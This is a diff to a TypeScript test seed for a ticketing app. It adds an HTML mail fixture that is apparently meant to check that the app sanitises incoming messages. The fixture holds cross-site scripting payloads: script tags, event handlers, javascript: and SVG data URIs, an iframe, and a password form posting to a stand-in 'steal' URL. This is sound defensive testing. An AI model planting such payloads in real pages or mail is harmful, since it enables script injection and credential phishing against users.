@@ -10,6 +10,16 @@ export const publicWord = 'Thermocouple';
 /** Content of the one file that customers may see. It is on ticket 1. */
 export const fileText = 'sensor;reading\nhall;21.5\n';
 
+/** The HTML of the message with that word, as a mail brings it: what it would run, ask for and look like has to go. */
+const mail = [
+  '<style>body{display:none}</style><script>document.title="owned"</script><title>Mail</title>',
+  `<div class="portal-login" id="reply" style="position:fixed">The <b onclick="alert(1)">${publicWord}</b> reads nothing.</div>`,
+  '<p><a href="javascript:alert(2)">here</a> <a href="/admin">there</a> <a href="https://example.com/manual">the manual</a></p>',
+  '<img src="x" onerror="alert(3)"><img src="data:image/svg+xml,<svg onload=alert(4)>"><img src="https://example.com/hall.png" alt="The hall">',
+  '<form action="https://example.com/steal"><input name="password" autofocus onfocus="alert(5)"></form>',
+  '<svg><animate onbegin="alert(6)" attributeName="x"></animate></svg><iframe src="https://example.com/frame"></iframe>',
+].join('');
+
 export const managersSeeTheirCompany: TicketPermission = {
   kind: 'company-if',
   groups: [[{ property: 'role', operator: 'is', value: 'manager' }]],
@@ -161,6 +171,7 @@ export function seedOf(tag: string, permission: TicketPermission = managersSeeTh
         },
         messages: [
           message(1, 1, 'public', 'alice', `The ${publicWord} in the hall reads nothing`, {
+            html: mail,
             attachments: [{ id: id('f-1'), name: 'readings.csv', type: 'text/csv', text: fileText }],
           }),
           message(1, 2, 'note', 'mia', `Known ${secret} in this batch`, {
